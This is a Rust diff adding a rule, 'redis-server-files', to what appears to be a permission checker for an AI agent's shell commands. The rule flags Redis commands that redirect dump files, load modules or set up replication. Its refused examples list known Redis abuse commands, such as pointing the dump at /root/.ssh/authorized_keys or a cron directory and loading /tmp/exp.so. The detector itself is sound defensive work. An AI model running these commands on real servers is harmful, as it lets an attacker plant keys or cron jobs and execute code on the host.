@@ -136,6 +136,45 @@ fn autostart_write(call: &Call, scope: &Scope) -> Option<String> {
 }
 
 /// macOS protections turned off: SIP, Gatekeeper, the quarantine flag, the firewall.
+/// A Redis command that makes the server write a file where it is told or run code: `CONFIG
+/// SET dir|dbfilename` (its next save writes the dump there: `authorized_keys`, a crontab),
+/// `MODULE LOAD` (a shared library into the server), `REPLICAOF HOST` (its data replaced by
+/// another host's, and modules of that host's choosing). Read from the arguments and from a
+/// here-document or here-string of commands.
+fn redis_server_control(c: &Command, _: &Scope) -> Option<String> {
+    let hit = |words: &[String]| {
+        let at = |i: usize| words.get(i).map(String::as_str).unwrap_or("");
+        words.iter().enumerate().find_map(|(i, w)| {
+            let found = match w.as_str() {
+                "config" if at(i + 1) == "set" => words[i + 2..]
+                    .iter()
+                    .step_by(2)
+                    .any(|p| matches!(p.as_str(), "dir" | "dbfilename")),
+                "module" => at(i + 1) == "load" || at(i + 1) == "loadex",
+                "replicaof" | "slaveof" => !at(i + 1).is_empty() && at(i + 1) != "no",
+                _ => false,
+            };
+            found.then(|| words[i..].join(" "))
+        })
+    };
+    let lower = |t: &str| -> Vec<String> {
+        t.split_whitespace()
+            .map(|w| w.trim_matches(['"', '\'']).to_ascii_lowercase())
+            .collect()
+    };
+    let args: Vec<String> = c.args.iter().map(|w| w.text.to_ascii_lowercase()).collect();
+    let what = hit(&args).or_else(|| {
+        c.stdin_text
+            .as_deref()
+            .and_then(|t| t.lines().find_map(|l| hit(&lower(l))))
+    })?;
+    Some(format!(
+        "`{} {}` changes where the server writes its files or what it runs",
+        c.program,
+        what.chars().take(60).collect::<String>()
+    ))
+}
+
 fn security_settings(c: &Command, _: &Scope) -> Option<String> {
     let ops: Vec<String> = c
         .operands()
@@ -628,6 +667,30 @@ pub static RULES: &[Rule] = &[
                 "Write",
                 r##"{"file_path":"/home/dev/project/docs/claude/hooks.md","content":"x"}"##,
             ),
+        ],
+    },
+    Rule {
+        id: "redis-server-files",
+        pack: PACK,
+        effect: Ask,
+        reason: "Pointing a Redis server's dump file elsewhere, loading a module into it or making it a replica of another host lets the server write files or run code as its own user",
+        programs: &["redis-cli", "valkey-cli", "keydb-cli"],
+        check: Check::Command(redis_server_control),
+        refused: &[
+            Example::bash("redis-cli CONFIG SET dir /root/.ssh"),
+            Example::bash("redis-cli -h 10.0.0.5 -p 6379 config set dbfilename authorized_keys"),
+            Example::bash("redis-cli CONFIG SET maxmemory 1gb dir /var/spool/cron"),
+            Example::bash("valkey-cli REPLICAOF 203.0.113.9 6379"),
+            Example::bash("redis-cli MODULE LOAD /tmp/exp.so"),
+            Example::bash("redis-cli <<< 'CONFIG SET dir /var/spool/cron/crontabs'"),
+        ],
+        allowed: &[
+            Example::bash("redis-cli CONFIG GET dir"),
+            Example::bash("redis-cli config set maxmemory 256mb"),
+            Example::bash("redis-cli REPLICAOF NO ONE"),
+            Example::bash("redis-cli MODULE LIST"),
+            Example::bash("redis-cli SET dir /tmp"),
+            Example::bash("redis-cli -n 2 KEYS 'session:*'"),
         ],
     },
     Rule {
